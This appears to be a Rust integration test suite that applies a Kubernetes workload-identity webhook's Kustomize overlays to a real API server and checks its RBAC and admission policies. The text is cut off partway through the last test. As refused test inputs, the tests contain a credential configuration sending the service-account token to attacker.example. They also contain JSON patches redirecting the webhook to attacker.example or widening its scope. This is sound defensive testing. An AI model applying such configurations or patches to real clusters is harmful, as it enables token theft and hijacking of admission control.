//! Every overlay under manifests/ is rendered with `kubectl kustomize` and applied server-side to
//! a real kube-apiserver, so a manifest the API would refuse fails the suite; then what the
//! manifests promise (admission policies, RBAC, matchConditions, priority) is exercised there.
//!
//! The shipped MutatingWebhookConfiguration points at a Service whose ClusterIP is not on this
//! machine: the API server must never call it. Every Pod these tests create is therefore labelled
//! `workload-identity.dev/inject: disabled` (its objectSelector), and none is created elsewhere.

#[path = "support/control_plane.rs"]
mod control_plane;
#[path = "support/webhook.rs"]
mod webhook;

use std::io::Write;
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::{Duration, Instant};

use serde_json::{Value, json};

/// cert-manager's kinds, as bare CRDs: enough for the apiserver to accept the overlay's objects
/// (their schema is cert-manager's business, and cert-manager is not part of this control plane).
const CERT_MANAGER_CRDS: &str = r#"
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {name: issuers.cert-manager.io}
spec:
  group: cert-manager.io
  names: {kind: Issuer, plural: issuers, singular: issuer, listKind: IssuerList}
  scope: Namespaced
  versions:
    - {name: v1, served: true, storage: true, schema: {openAPIV3Schema: {type: object, x-kubernetes-preserve-unknown-fields: true}}}
---
apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata: {name: certificates.cert-manager.io}
spec:
  group: cert-manager.io
  names: {kind: Certificate, plural: certificates, singular: certificate, listKind: CertificateList}
  scope: Namespaced
  versions:
    - {name: v1, served: true, storage: true, schema: {openAPIV3Schema: {type: object, x-kubernetes-preserve-unknown-fields: true}}}
"#;

const SYSTEM_NAMESPACE: &str = "workload-identity-system";
const WEBHOOK_USER: &str = "system:serviceaccount:workload-identity-system:workload-identity-webhook";
const EMULATOR_USER: &str = "system:serviceaccount:workload-identity-system:workload-identity-emulator";
const EMULATOR_HOST: &str = "workload-identity-emulator.workload-identity-system.svc";
const GOOGLE_ANNOTATION: &str = "cloud.google.com/external-credentials-json";

/// Tests that apply overlays take this lock: the overlays write the same objects differently.
static CLUSTER: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());

struct Kubectl {
    kubeconfig: String,
}

struct Run {
    ok: bool,
    stdout: String,
    /// stdout and stderr together, for messages.
    text: String,
}

impl Kubectl {
    async fn new() -> Kubectl {
        let cp = control_plane::shared().await;
        Kubectl {
            kubeconfig: cp.kubeconfig_path().to_str().unwrap().to_owned(),
        }
    }

    fn run(&self, args: &[&str], stdin: Option<&str>) -> Run {
        let mut child = Command::new("kubectl")
            .env("KUBECONFIG", &self.kubeconfig)
            .args(args)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("kubectl is needed to render the Kustomize overlays");
        if let Some(text) = stdin {
            child.stdin.take().unwrap().write_all(text.as_bytes()).unwrap();
        }
        drop(child.stdin.take());
        let output = child.wait_with_output().unwrap();
        let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
        let text = format!("{stdout}{}", String::from_utf8_lossy(&output.stderr));
        Run {
            ok: output.status.success(),
            stdout,
            text,
        }
    }

    /// Runs kubectl and fails the test unless it succeeds; returns its output.
    fn ok(&self, args: &[&str], stdin: Option<&str>) -> String {
        let run = self.run(args, stdin);
        assert!(run.ok, "kubectl {args:?} failed:\n{}", run.text);
        run.stdout
    }

    fn json(&self, args: &[&str]) -> Value {
        let mut args = args.to_vec();
        args.extend(["-o", "json"]);
        serde_json::from_str(&self.ok(&args, None)).unwrap()
    }

    /// Renders a kustomization (path relative to the repository) and applies it server-side;
    /// fails unless the API server takes every object.
    fn apply_kustomization(&self, dir: &str) -> String {
        let root = env!("CARGO_MANIFEST_DIR");
        let rendered = self.run(&["kustomize", &format!("{root}/{dir}")], None);
        assert!(rendered.ok, "{dir} does not render: {}", rendered.text);
        let rendered = rendered.stdout;
        let out = self.ok(
            &[
                "apply",
                "--server-side",
                "--force-conflicts",
                "--field-manager=wiw-tests",
                "-f",
                "-",
            ],
            Some(&rendered),
        );
        let objects = rendered.matches("\nkind: ").count() + usize::from(rendered.starts_with("kind: "));
        let applied = out.lines().filter(|line| line.contains("serverside-applied")).count();
        assert_eq!(applied, objects, "{dir}: every object applied\n{out}");
        rendered
    }

    /// cert-manager's kinds, which the cert-manager overlay needs.
    fn install_cert_manager_crds(&self) {
        self.ok(&["apply", "--server-side", "-f", "-"], Some(CERT_MANAGER_CRDS));
        self.ok(
            &[
                "wait",
                "--for=condition=Established",
                "crd/issuers.cert-manager.io",
                "crd/certificates.cert-manager.io",
                "--timeout=60s",
            ],
            None,
        );
    }

    fn apply_overlay(&self, overlay: &str) -> String {
        self.apply_kustomization(&format!("manifests/overlays/{overlay}"))
    }

    /// The cert-manager overlay in place of a self-managed one. Server-side apply does not prune,
    /// so the certificate rights an earlier overlay left are removed first.
    fn apply_mounted_certificate_overlay(&self) {
        self.ok(
            &[
                "delete",
                "-n",
                SYSTEM_NAMESPACE,
                "role,rolebinding",
                "workload-identity-webhook-tls",
                "--ignore-not-found",
            ],
            None,
        );
        self.ok(
            &[
                "delete",
                "clusterrole,clusterrolebinding",
                "workload-identity-webhook-cabundle",
                "--ignore-not-found",
            ],
            None,
        );
        self.apply_overlay("cert-manager");
    }

    /// `kubectl auth can-i` as `user`, retried until it gives `expected` (RBAC is read from a cache).
    /// `resource` as kubectl takes it (`secrets/name` is a named Secret); `extra` adds flags such as
    /// `--subresource=binding`.
    fn wait_can_i(&self, user: &str, verb: &str, resource: &str, namespace: &str, expected: bool) {
        self.wait_can_i_with(user, verb, resource, &[], namespace, expected);
    }

    fn wait_can_i_with(&self, user: &str, verb: &str, resource: &str, extra: &[&str], namespace: &str, expected: bool) {
        eventually(&format!("{user} can {verb} {resource} {extra:?}: {expected}"), || {
            let mut args = vec!["auth", "can-i", verb, resource, "-n", namespace, "--as", user];
            args.extend_from_slice(extra);
            let run = self.run(&args, None);
            (run.stdout.trim() == "yes") == expected
        });
    }
}

/// Polls `check` every 200 ms until it is true, failing after 60 s.
fn eventually(what: &str, mut check: impl FnMut() -> bool) {
    let deadline = Instant::now() + Duration::from_secs(60);
    while !check() {
        assert!(Instant::now() < deadline, "timed out waiting for {what}");
        std::thread::sleep(Duration::from_millis(200));
    }
}

fn unique(prefix: &str) -> String {
    static COUNTER: AtomicU32 = AtomicU32::new(0);
    format!(
        "{prefix}-{}-{}",
        std::process::id(),
        COUNTER.fetch_add(1, Ordering::Relaxed)
    )
}

fn create_namespace(kubectl: &Kubectl, name: &str) {
    kubectl.ok(&["create", "namespace", name], None);
}

/// A Pod the shipped MutatingWebhookConfiguration never sees (see the top of this file).
fn pod(name: &str, annotations: Value) -> Value {
    json!({
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": name, "labels": {"workload-identity.dev/inject": "disabled"}, "annotations": annotations},
        "spec": {"containers": [{"name": "app", "image": "registry.example/app:1"}]}
    })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_overlay_is_accepted_by_the_apiserver() {
    let kubectl = Kubectl::new().await;
    let _cluster = CLUSTER.lock().await;
    kubectl.install_cert_manager_crds();

    // A user's kustomization with the optional NetworkPolicy component, its CIDR and monitoring
    // namespace set.
    kubectl.apply_kustomization("tests/kustomize/network-policy");
    let policy = kubectl.json(&[
        "-n",
        SYSTEM_NAMESPACE,
        "get",
        "networkpolicy",
        "workload-identity-webhook",
    ]);
    let spec = &policy["spec"];
    assert_eq!(spec["policyTypes"], json!(["Ingress"]), "{policy}");
    assert_eq!(
        spec["podSelector"]["matchLabels"]["app.kubernetes.io/component"],
        "webhook"
    );
    let admission = &spec["ingress"][0];
    assert_eq!(
        admission["ports"],
        json!([{"port": "https", "protocol": "TCP"}]),
        "{policy}"
    );
    assert_eq!(
        admission["from"][0],
        json!({"ipBlock": {"cidr": "10.0.0.0/28"}}),
        "{policy}"
    );
    let metrics = &spec["ingress"][1];
    assert_eq!(
        metrics["ports"],
        json!([{"port": "metrics", "protocol": "TCP"}]),
        "{policy}"
    );
    assert_eq!(
        metrics["from"],
        json!([{"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "observability"}}}]),
        "{policy}"
    );
    assert_eq!(spec["ingress"].as_array().unwrap().len(), 2, "{policy}");

    for overlay in ["cluster-wide", "namespace-opt-in", "local", "cert-manager"] {
        let rendered = kubectl.apply_overlay(overlay);
        // Every overlay ships the admission policies and their bindings.
        for policy in [
            "workload-identity-webhook-google-credential-configuration",
            "workload-identity-webhook-cabundle-only",
            "workload-identity-webhook-own-secret-only",
        ] {
            assert_eq!(
                rendered.matches(&format!("name: {policy}\n")).count(),
                2,
                "{overlay}: {policy}"
            );
        }
    }
    // What the last overlay left: the cert-manager install serves the mounted certificate.
    let args = kubectl.ok(
        &[
            "-n",
            SYSTEM_NAMESPACE,
            "get",
            "deployment",
            "workload-identity-webhook",
            "-o",
            "jsonpath={.spec.template.spec.containers[0].args}",
        ],
        None,
    );
    assert!(
        args.contains("--tls-cert-file=/tls/tls.crt") && !args.contains("--manage-certificate"),
        "{args}"
    );
}

/// H2: someone allowed only `get` and `patch` on Pods cannot change, remove or add the Google
/// credential configuration of a Pod, and can still edit its other annotations.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_google_credential_configuration_cannot_be_changed_after_creation() {
    let kubectl = Kubectl::new().await;
    {
        let _cluster = CLUSTER.lock().await;
        kubectl.apply_overlay("cluster-wide");
    }
    let namespace = unique("google");
    create_namespace(&kubectl, &namespace);
    let ns = namespace.as_str();
    kubectl.ok(
        &[
            "-n",
            ns,
            "create",
            "role",
            "pod-patcher",
            "--verb=get,patch",
            "--resource=pods",
        ],
        None,
    );
    kubectl.ok(
        &[
            "-n",
            ns,
            "create",
            "rolebinding",
            "ci-bot",
            "--role=pod-patcher",
            "--user=ci-bot",
        ],
        None,
    );
    kubectl.wait_can_i("ci-bot", "patch", "pods", ns, true);
    kubectl.wait_can_i("ci-bot", "update", "pods", ns, false);

    let configuration = r#"{"type":"external_account","token_url":"https://sts.googleapis.com/v1/token","credential_source":{"file":"/var/run/secrets/gcp/token"}}"#;
    kubectl.ok(
        &["-n", ns, "create", "-f", "-"],
        Some(&pod("google", json!({GOOGLE_ANNOTATION: configuration})).to_string()),
    );
    kubectl.ok(
        &["-n", ns, "create", "-f", "-"],
        Some(&pod("plain", json!({"team": "a"})).to_string()),
    );

    let patch = |name: &str, kind: &str, body: Value, dry_run: bool| {
        let body = body.to_string();
        let mut args = vec![
            "-n",
            ns,
            "--as=ci-bot",
            "patch",
            "pod",
            name,
            "--type",
            kind,
            "-p",
            &body,
        ];
        if dry_run {
            args.push("--dry-run=server");
        }
        kubectl.run(&args, None)
    };
    let hostile = r#"{"type":"external_account","token_url":"https://attacker.example/token","credential_source":{"file":"/var/run/secrets/kubernetes.io/serviceaccount/token"}}"#;
    let change = json!({"metadata": {"annotations": {GOOGLE_ANNOTATION: hostile}}});
    // The API server loads policies asynchronously; dry runs go through admission and store nothing.
    eventually("the policy to be enforced", || {
        !patch("google", "merge", change.clone(), true).ok
    });

    let refused = |run: Run, what: &str| {
        assert!(!run.ok, "{what} was allowed:\n{}", run.text);
        assert!(
            run.text
                .contains("workload-identity-webhook-google-credential-configuration")
                && run.text.contains("fixed when the Pod is created"),
            "{what}: {}",
            run.text
        );
    };
    refused(patch("google", "merge", change, false), "changing the annotation");
    refused(
        patch(
            "google",
            "merge",
            json!({"metadata": {"annotations": {GOOGLE_ANNOTATION: null}}}),
            false,
        ),
        "removing the annotation",
    );
    refused(
        patch(
            "google",
            "json",
            json!([{"op": "remove", "path": "/metadata/annotations"}]),
            false,
        ),
        "removing every annotation",
    );
    refused(
        patch(
            "plain",
            "merge",
            json!({"metadata": {"annotations": {GOOGLE_ANNOTATION: hostile}}}),
            false,
        ),
        "adding the annotation",
    );

    // Other edits still go through, on Pods with and without the annotation.
    let other = json!({"metadata": {"annotations": {"ci.example/run": "42"}, "labels": {"stage": "test"}}});
    let run = patch("google", "merge", other.clone(), false);
    assert!(run.ok, "{}", run.text);
    let run = patch("plain", "merge", other, false);
    assert!(run.ok, "{}", run.text);
    let google = kubectl.json(&["-n", ns, "get", "pod", "google"]);
    assert_eq!(google["metadata"]["annotations"][GOOGLE_ANNOTATION], configuration);
    assert_eq!(google["metadata"]["annotations"]["ci.example/run"], "42");
    let plain = kubectl.json(&["-n", ns, "get", "pod", "plain"]);
    assert_eq!(
        plain["metadata"]["annotations"],
        json!({"team": "a", "ci.example/run": "42"})
    );

    // The policy binds everyone, cluster administrators included, and every subresource that
    // writes a whole Pod.
    let run = kubectl.run(
        &[
            "-n",
            ns,
            "annotate",
            "--overwrite",
            "pod",
            "google",
            &format!("{GOOGLE_ANNOTATION}={hostile}"),
        ],
        None,
    );
    assert!(!run.ok, "{}", run.text);
    let run = kubectl.run(
        &[
            "-n",
            ns,
            "patch",
            "pod",
            "google",
            "--subresource=status",
            "--type=merge",
            "-p",
            &json!({"metadata": {"annotations": {GOOGLE_ANNOTATION: hostile}}}).to_string(),
        ],
        None,
    );
    let google = kubectl.json(&["-n", ns, "get", "pod", "google"]);
    assert_eq!(
        google["metadata"]["annotations"][GOOGLE_ANNOTATION], configuration,
        "{}",
        run.text
    );
}

/// F2 (issue 21): a Binding copies its annotations into the stored Pod with no Pod UPDATE; a user
/// allowed only to create Bindings cannot set the Google credential configuration through either
/// path (pods/binding, the legacy bindings), and plain Bindings still schedule Pods.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_binding_cannot_set_the_google_credential_configuration() {
    let kubectl = Kubectl::new().await;
    {
        let _cluster = CLUSTER.lock().await;
        kubectl.apply_overlay("cluster-wide");
    }
    let namespace = unique("binding");
    create_namespace(&kubectl, &namespace);
    let ns = namespace.as_str();
    kubectl.ok(
        &[
            "-n",
            ns,
            "create",
            "role",
            "binder",
            "--verb=create",
            "--resource=pods/binding,bindings",
        ],
        None,
    );
    kubectl.ok(
        &[
            "-n",
            ns,
            "create",
            "rolebinding",
            "batch-scheduler",
            "--role=binder",
            "--user=batch-scheduler",
        ],
        None,
    );
    kubectl.wait_can_i_with(
        "batch-scheduler",
        "create",
        "pods",
        &["--subresource=binding"],
        ns,
        true,
    );
    kubectl.wait_can_i("batch-scheduler", "create", "bindings", ns, true);
    kubectl.wait_can_i("batch-scheduler", "patch", "pods", ns, false);

    let configuration = r#"{"type":"external_account","token_url":"https://sts.googleapis.com/v1/token"}"#;
    let hostile = r#"{"type":"external_account","token_url":"https://attacker.example/token"}"#;
    for name in ["google-a", "google-b", "plain-a", "plain-b"] {
        let annotations = if name.starts_with("google") {
            json!({GOOGLE_ANNOTATION: configuration})
        } else {
            json!({})
        };
        kubectl.ok(
            &["-n", ns, "create", "-f", "-"],
            Some(&pod(name, annotations).to_string()),
        );
    }
    // `legacy`: POST .../bindings; else POST .../pods/<name>/binding.
    let bind = |name: &str, annotations: Value, legacy: bool, dry_run: bool| {
        let binding = json!({
            "apiVersion": "v1", "kind": "Binding",
            "metadata": {"name": name, "namespace": ns, "annotations": annotations},
            "target": {"apiVersion": "v1", "kind": "Node", "name": "node-1"}
        });
        let mut path = if legacy {
            format!("/api/v1/namespaces/{ns}/bindings")
        } else {
            format!("/api/v1/namespaces/{ns}/pods/{name}/binding")
        };
        if dry_run {
            path.push_str("?dryRun=All");
        }
        kubectl.run(
            &["--as=batch-scheduler", "create", "--raw", &path, "-f", "-"],
            Some(&binding.to_string()),
        )
    };
    let hostile_annotations = json!({GOOGLE_ANNOTATION: hostile});
    // The API server loads policies asynchronously; dry runs go through admission and store nothing.
    eventually("the Binding policy to be enforced", || {
        !bind("google-a", hostile_annotations.clone(), false, true).ok
    });
    for (name, legacy) in [
        ("google-a", false),
        ("google-b", true),
        ("plain-a", false),
        ("plain-b", true),
    ] {
        let run = bind(name, hostile_annotations.clone(), legacy, false);
        assert!(
            !run.ok,
            "{name} (legacy path: {legacy}) was bound with a hostile configuration:\n{}",
            run.text
        );
        assert!(
            run.text
                .contains("workload-identity-webhook-google-credential-configuration-binding"),
            "{name}: {}",
            run.text
        );
    }
    // Plain Bindings, with other annotations or none, still schedule the Pods; the configuration
    // stays what the Pod was created with.
    for (name, legacy) in [
        ("google-a", false),
        ("google-b", true),
        ("plain-a", false),
        ("plain-b", true),
    ] {
        let run = bind(name, json!({"scheduler.example/queue": "batch"}), legacy, false);
        assert!(run.ok, "{name} (legacy path: {legacy}): {}", run.text);
        let stored = kubectl.json(&["-n", ns, "get", "pod", name]);
        assert_eq!(stored["spec"]["nodeName"], "node-1", "{name}");
        assert_eq!(
            stored["metadata"]["annotations"]["scheduler.example/queue"], "batch",
            "{name}"
        );
        let expected = if name.starts_with("google") {
            json!(configuration)
        } else {
            Value::Null
        };
        assert_eq!(stored["metadata"]["annotations"][GOOGLE_ANNOTATION], expected, "{name}");
    }
}

/// M4: the webhook's ServiceAccount may publish its caBundle and create its certificate Secret,
/// nothing more; and only the self-managed installs give it those rights at all.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_webhook_may_change_only_its_ca_bundle_and_only_when_it_manages_its_certificate() {
    let kubectl = Kubectl::new().await;
    let _cluster = CLUSTER.lock().await;
    let as_webhook = format!("--as={WEBHOOK_USER}");

    // A mounted certificate (cert-manager or your own): no Secret writes, no webhook patch.
    kubectl.install_cert_manager_crds();
    kubectl.apply_overlay("cert-manager");
    kubectl.apply_mounted_certificate_overlay();
    let configuration = "mutatingwebhookconfigurations/workload-identity-webhook";
    let secret = "secrets/workload-identity-webhook-tls";
    kubectl.wait_can_i(
        WEBHOOK_USER,
        "get",
        "configmaps/workload-identity-webhook",
        SYSTEM_NAMESPACE,
        true,
    );
    for (verb, resource) in [
        ("patch", configuration),
        ("get", configuration),
        ("create", "secrets"),
        ("update", secret),
        ("get", secret),
    ] {
        kubectl.wait_can_i(WEBHOOK_USER, verb, resource, SYSTEM_NAMESPACE, false);
    }

    // Self-managed (the default): exactly the rights of the certificate loop.
    kubectl.apply_overlay("cluster-wide");
    for (verb, resource) in [
        ("patch", configuration),
        ("get", configuration),
        ("create", "secrets"),
        ("update", secret),
        ("get", secret),
    ] {
        kubectl.wait_can_i(WEBHOOK_USER, verb, resource, SYSTEM_NAMESPACE, true);
    }
    kubectl.wait_can_i(WEBHOOK_USER, "update", configuration, SYSTEM_NAMESPACE, false);
    kubectl.wait_can_i(WEBHOOK_USER, "delete", configuration, SYSTEM_NAMESPACE, false);

    let patch = |kind: &str, body: &Value, user: Option<&str>| {
        let body = body.to_string();
        let mut args = vec!["patch", configuration, "--type", kind, "-p", &body];
        args.extend(user);
        kubectl.run(&args, None)
    };
    // What the webhook sends (src/shell/certificates/mod.rs): a strategic merge patch of each caBundle.
    let bundle = "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCg==";
    let publish = json!({"webhooks": [
        {"name": "pods.workload-identity.dev", "clientConfig": {"caBundle": bundle}},
        {"name": "serviceaccounts.workload-identity.dev", "clientConfig": {"caBundle": bundle}},
    ]});
    let widen_failure_policy = json!([{"op": "replace", "path": "/webhooks/0/failurePolicy", "value": "Fail"}]);
    eventually("the policy to be enforced", || {
        !patch("json", &widen_failure_policy, Some(&as_webhook)).ok
    });
    let run = patch("strategic", &publish, Some(&as_webhook));
    assert!(run.ok, "publishing the caBundle was refused:\n{}", run.text);
    let stored = kubectl.json(&["get", configuration]);
    for webhook in stored["webhooks"].as_array().unwrap() {
        assert_eq!(webhook["clientConfig"]["caBundle"], bundle, "{stored}");
    }

    let widenings = [
        widen_failure_policy.clone(),
        json!([{"op": "replace", "path": "/webhooks/0/namespaceSelector", "value": {}}]),
        json!([{"op": "replace", "path": "/webhooks/0/objectSelector", "value": {}}]),
        json!([{"op": "remove", "path": "/webhooks/0/matchConditions"}]),
        json!([{"op": "replace", "path": "/webhooks/0/rules/0/operations", "value": ["*"]}]),
        json!([{"op": "replace", "path": "/webhooks/0/rules/0/resources", "value": ["*"]}]),
        json!([{"op": "replace", "path": "/webhooks/1/timeoutSeconds", "value": 30}]),
        json!([{"op": "replace", "path": "/webhooks/1/reinvocationPolicy", "value": "Never"}]),
        json!([{"op": "replace", "path": "/webhooks/0/clientConfig/service/name", "value": "elsewhere"}]),
        json!([{"op": "replace", "path": "/webhooks/0/clientConfig", "value": {"url": "https://attacker.example/mutate", "caBundle": bundle}}]),
        json!([{"op": "add", "path": "/webhooks/-", "value": {
            "name": "more.workload-identity.dev", "admissionReviewVersions": ["v1"], "sideEffects": "None",
            "clientConfig": {"url": "https://attacker.example/mutate"},
            "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*"]}]}}]),
        json!([{"op": "remove", "path": "/webhooks/1"}]),
        json!([{"op": "add", "path": "/metadata/labels/extra", "value": "x"}]),
        json!([{"op": "add", "path": "/metadata/finalizers", "value": ["example.com/keep"]}]),
    ];
    for widening in &widenings {
        let run = patch("json", widening, Some(&as_webhook));
        assert!(!run.ok, "the webhook could apply {widening}");
        assert!(
            run.text.contains("workload-identity-webhook-cabundle-only"),
            "{widening}: {}",
            run.text
        );
    }
    assert_eq!(kubectl.json(&["get", configuration])["webhooks"], stored["webhooks"]);
    // Only the webhook's ServiceAccount is held to this: an administrator can still switch to Fail.
    let run = patch("json", &widen_failure_policy, None);
    assert!(run.ok, "{}", run.text);
    kubectl.apply_overlay("cluster-wide");

    // Secrets: only its own certificate Secret, and never a ServiceAccount token.
    let create_secret = |name: &str, kind: &str| {
        let secret = json!({"apiVersion": "v1", "kind": "Secret", "type": kind,
            "metadata": {"name": name, "namespace": SYSTEM_NAMESPACE, "annotations": {"kubernetes.io/service-account.name": "default"}}});
        kubectl.run(
            &["create", "--dry-run=server", &as_webhook, "-f", "-"],
            Some(&secret.to_string()),
        )
    };
    eventually("the Secret policy to be enforced", || {
        !create_secret("other", "Opaque").ok
    });
    let run = create_secret("workload-identity-webhook-tls", "Opaque");
    assert!(run.ok, "{}", run.text);
    for (name, kind) in [
        ("other", "Opaque"),
        ("workload-identity-webhook-tls", "kubernetes.io/service-account-token"),
        ("default-token", "kubernetes.io/service-account-token"),
    ] {
        let run = create_secret(name, kind);
        assert!(!run.ok, "the webhook could create the {kind} Secret {name}");
        assert!(
            run.text.contains("workload-identity-webhook-own-secret-only"),
            "{}",
            run.text
        );
    }
}

/// S2: installed into another namespace with kustomize's `namespace:`
/// (`tests/kustomize/namespace-override`), the caBundle and own-Secret policies still hold the
/// webhook's ServiceAccount there: they read the install's namespace from the object, not from a
/// literal username.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_namespace_override_keeps_the_webhooks_own_policies_in_force() {
    const MOVED: &str = "wiw-moved";
    let kubectl = Kubectl::new().await;
    let _cluster = CLUSTER.lock().await;
    let user = format!("system:serviceaccount:{MOVED}:workload-identity-webhook");
    let as_moved = format!("--as={user}");
    kubectl.apply_kustomization("tests/kustomize/namespace-override");
    kubectl.wait_can_i(&user, "create", "secrets", MOVED, true);
    let configuration = "mutatingwebhookconfigurations/workload-identity-webhook";
    kubectl.wait_can_i(&user, "patch", configuration, MOVED, true);

    let create_secret = |name: &str| {
        let secret = json!({"apiVersion": "v1", "kind": "Secret", "type": "Opaque",
            "metadata": {"name": name, "namespace": MOVED}});
        kubectl.run(
            &["create", "--dry-run=server", &as_moved, "-f", "-"],
            Some(&secret.to_string()),
        )
    };
    eventually("the Secret policy to hold the moved ServiceAccount", || {
        !create_secret("other").ok
    });
    let run = create_secret("other");
    assert!(
        run.text.contains("workload-identity-webhook-own-secret-only"),
        "{}",
        run.text
    );
    let run = create_secret("workload-identity-webhook-tls");
    assert!(run.ok, "{}", run.text);

    let patch = |body: &Value, kind: &str| {
        let body = body.to_string();
        kubectl.run(
            &[
                "patch",
                configuration,
                "--type",
                kind,
                "-p",
                &body,
                &as_moved,
                "--dry-run=server",
            ],
            None,
        )
    };
    let widen = json!([{"op": "replace", "path": "/webhooks/0/failurePolicy", "value": "Fail"}]);
    eventually("the caBundle policy to hold the moved ServiceAccount", || {
        !patch(&widen, "json").ok
    });
    let run = patch(&widen, "json");
    assert!(
        run.text.contains("workload-identity-webhook-cabundle-only"),
        "{}",
        run.text
    );
    let publish = json!({"webhooks": [{"name": "pods.workload-identity.dev", "clientConfig": {"caBundle": "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCg=="}}]});
    let run = patch(&publish, "strategic");
    assert!(run.ok, "publishing the caBundle was refused:\n{}", run.text);

    // The shared objects back as the other tests expect them.
    kubectl.apply_overlay("cluster-wide");
    kubectl.ok(&["delete", "namespace", MOVED, "--wait=false"], None);
}

/// L9: a mirror Pod (a static Pod's copy in the API) is never sent to the webhook. The webhook
/// configuration below is the shipped `pods` entry pointing at a closed port with `Fail`, so a
/// Pod that is sent is refused.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mirror_pods_are_not_sent_to_the_webhook() {
    let kubectl = Kubectl::new().await;
    let mut shipped = {
        let _cluster = CLUSTER.lock().await;
        kubectl.apply_overlay("cluster-wide");
        kubectl.json(&["get", "mutatingwebhookconfiguration", "workload-identity-webhook"])
    };
    let namespace = unique("mirror");
    create_namespace(&kubectl, &namespace);
    let closed_port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let mut webhook = shipped["webhooks"]
        .as_array_mut()
        .unwrap()
        .iter_mut()
        .find(|webhook| webhook["name"] == "pods.workload-identity.dev")
        .unwrap()
        .take();
    webhook["clientConfig"] = json!({"url": format!("https://127.0.0.1:{closed_port}/mutate")});
    webhook["failurePolicy"] = json!("Fail");
    webhook["namespaceSelector"] = json!({"matchLabels": {"kubernetes.io/metadata.name": namespace}});
    webhook["objectSelector"] = json!({});
    let name = unique("wiw-mirror");
    let configuration = json!({
        "apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
        "metadata": {"name": name}, "webhooks": [webhook],
    });
    kubectl.ok(&["create", "-f", "-"], Some(&configuration.to_string()));

    let ns = namespace.as_str();
    let create = |name: &str, annotations: Value, dry_run: bool| {
        let mut args = vec!["-n", ns, "create", "-f", "-"];
        if dry_run {
            args.push("--dry-run=server");
        }
        // A mirror Pod names its node; the ordinary one does too, so that only the annotation differs.
        let mut pod = pod(name, annotations);
        pod["spec"]["nodeName"] = json!("node-1");
        kubectl.run(&args, Some(&pod.to_string()))
    };
    eventually("the API server to call the webhook", || {
        create("probe", json!({}), true).text.contains("failed calling webhook")
    });
    let mirror = json!({"kubernetes.io/config.mirror": "0123456789abcdef", "kubernetes.io/config.source": "file"});
    let run = create("static", mirror.clone(), false);
    assert!(run.ok, "a mirror Pod was sent to the webhook:\n{}", run.text);
    let stored = kubectl.json(&["-n", ns, "get", "pod", "static"]);
    assert_eq!(stored["metadata"]["annotations"], mirror);
    let run = create("ordinary", json!({"kubernetes.io/config.source": "file"}), false);
    assert!(!run.ok && run.text.contains("failed calling webhook"), "{}", run.text);
    kubectl.ok(&["delete", "mutatingwebhookconfiguration", &name], None);
}

/// The webhook Pods run at system-cluster-critical, and the namespace's ResourceQuota admits them
/// where critical priorities are limited to quota (this control plane is configured as GKE is).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_webhook_pods_are_system_cluster_critical() {
    let kubectl = Kubectl::new().await;
    let _cluster = CLUSTER.lock().await;
    kubectl.apply_overlay("cluster-wide");
    let deployment = kubectl.json(&["-n", SYSTEM_NAMESPACE, "get", "deployment", "workload-identity-webhook"]);
    // A Pod from the Deployment's template, as the ReplicaSet controller would create it.
    let template = &deployment["spec"]["template"];
    let pod = json!({
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"generateName": "workload-identity-webhook-", "namespace": SYSTEM_NAMESPACE, "labels": template["metadata"]["labels"]},
        "spec": template["spec"],
    })
    .to_string();
    let create = || kubectl.run(&["create", "--dry-run=server", "-o", "json", "-f", "-"], Some(&pod));
    let quota = "resourcequota/workload-identity-webhook-critical-pods";

    // Without the shipped quota such a cluster refuses the Pods.
    kubectl.ok(&["-n", SYSTEM_NAMESPACE, "delete", "--ignore-not-found", quota], None);
    let run = create();
    assert!(
        !run.ok && run.text.contains("insufficient quota to match these scopes"),
        "{}",
        run.text
    );

    kubectl.apply_overlay("cluster-wide");
    let run = create();
    assert!(run.ok, "{}", run.text);
    let created: Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(created["spec"]["priorityClassName"], "system-cluster-critical");
    assert_eq!(created["spec"]["priority"], 2_000_000_000);
}

/// The shipped RBAC and policies are enough for the real webhook, run as its ServiceAccount: with
/// a mounted certificate it becomes ready without any Secret or webhook-configuration right; with
/// the self-managed one it creates its Secret and publishes its caBundle through the policies.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_webhook_runs_with_exactly_the_shipped_rights() {
    let kubectl = Kubectl::new().await;
    let _cluster = CLUSTER.lock().await;
    // The admin kubeconfig, impersonating the webhook's ServiceAccount.
    let mut config: Value = serde_json::from_str(&std::fs::read_to_string(&kubectl.kubeconfig).unwrap()).unwrap();
    config["users"][0]["user"]["as"] = json!(WEBHOOK_USER);
    let dir = tempfile::tempdir().unwrap();
    let kubeconfig = dir.path().join("kubeconfig");
    std::fs::write(&kubeconfig, config.to_string()).unwrap();
    let kubeconfig = kubeconfig.to_str().unwrap();
    let env = [("KUBECONFIG", kubeconfig)];
    let namespace = format!("--namespace={SYSTEM_NAMESPACE}");
    let no_refusal = |webhook: &webhook::Webhook| {
        let log = webhook.log();
        assert!(!log.to_lowercase().contains("forbidden"), "{log}");
    };

    kubectl.install_cert_manager_crds();
    kubectl.apply_mounted_certificate_overlay();
